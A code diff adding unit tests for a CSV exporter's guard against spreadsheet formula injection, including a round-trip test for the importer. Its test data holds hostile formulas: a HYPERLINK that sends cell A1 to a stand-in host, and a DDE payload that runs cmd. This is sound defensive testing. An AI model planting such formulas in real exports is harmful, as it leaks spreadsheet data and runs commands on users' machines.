@@ -229,6 +229,62 @@ private slots:
         QCOMPARE(lines.at(3), QStringLiteral("| Comma, \"quoted\" | 685B | two lines \\| pipe |"));
     }
 
+    // OWASP's list of what starts a formula, each guarded by a quote in a text cell; text that merely holds
+    // one, and numbers (negative ones too), are written as they are.
+    void csvGuardsFormulas_data()
+    {
+        QTest::addColumn<QVariant>("value");
+        QTest::addColumn<QByteArray>("written");
+        QTest::addRow("equals") << QVariant(QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"))
+                                << QByteArray("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"");
+        QTest::addRow("plus") << QVariant(QStringLiteral("+cmd|'/c calc'!A1")) << QByteArray("'+cmd|'/c calc'!A1");
+        QTest::addRow("minus") << QVariant(QStringLiteral("-2+3")) << QByteArray("'-2+3");
+        QTest::addRow("at") << QVariant(QStringLiteral("@SUM(A1:A2)")) << QByteArray("'@SUM(A1:A2)");
+        QTest::addRow("tab") << QVariant(QStringLiteral("\t=1+1")) << QByteArray("'\t=1+1");
+        QTest::addRow("carriage return") << QVariant(QStringLiteral("\r=1+1")) << QByteArray("\"'\r=1+1\"");
+        // A quote before a formula start gets one more, so the importer's removing one gives it back.
+        QTest::addRow("quoted formula") << QVariant(QStringLiteral("'=1+1")) << QByteArray("''=1+1");
+        QTest::addRow("quotes") << QVariant(QStringLiteral("''@x")) << QByteArray("'''@x");
+        QTest::addRow("quote of text") << QVariant(QStringLiteral("'quoted'")) << QByteArray("'quoted'");
+        QTest::addRow("inside") << QVariant(QStringLiteral("a=b+c-d@e")) << QByteArray("a=b+c-d@e");
+        QTest::addRow("space first") << QVariant(QStringLiteral(" =1")) << QByteArray(" =1");
+        QTest::addRow("bidi override") << QVariant(QStringLiteral("\u202E=1")) << QByteArray("\u202E=1");
+        QTest::addRow("negative integer") << QVariant(qint64(-3)) << QByteArray("-3");
+        QTest::addRow("negative double") << QVariant(-0.5) << QByteArray("-0.5");
+        QTest::addRow("negative zero") << QVariant(-0.0) << QByteArray("-0");
+        QTest::addRow("empty") << QVariant(QString()) << QByteArray();
+    }
+
+    void csvGuardsFormulas()
+    {
+        QFETCH(QVariant, value);
+        QFETCH(QByteArray, written);
+        QStandardItemModel model(1, 1);
+        model.setHeaderData(0, Qt::Horizontal, QStringLiteral("name"), RecordTableModel::ColumnKeyRole);
+        model.setData(model.index(0, 0), value, RecordTableModel::RawValueRole);
+        QCOMPARE(TableWriter::write(model, TableWriter::Format::Csv), "name\r\n" + written + "\r\n");
+    }
+
+    // What the importer takes off each CSV field: exactly the guard the writer added, so every text reads
+    // back as it was, and a field no writer guarded is left alone.
+    void formulaGuardRoundTrips_data()
+    {
+        QTest::addColumn<QString>("text");
+        for (const char *text : {"=1+1", "+1", "-1", "@x", "\t=x", "\r=x", "'=x", "''-x", "'", "''", "'x", "x'=",
+                                 "", "plain", "-", "=", "'\t"})
+            QTest::addRow("%s", text) << QString::fromUtf8(text);
+    }
+
+    void formulaGuardRoundTrips()
+    {
+        QFETCH(QString, text);
+        const bool guarded = TableWriter::needsFormulaGuard(text);
+        const QString written = guarded ? QLatin1Char('\'') + text : text;
+        QCOMPARE(TableWriter::removeFormulaGuard(written), text);
+        if (!written.isEmpty())
+            QVERIFY(!QStringLiteral("=+-@\t\r").contains(written.at(0)));
+    }
+
     void textAlignsColumns()
     {
         SampleModel model;
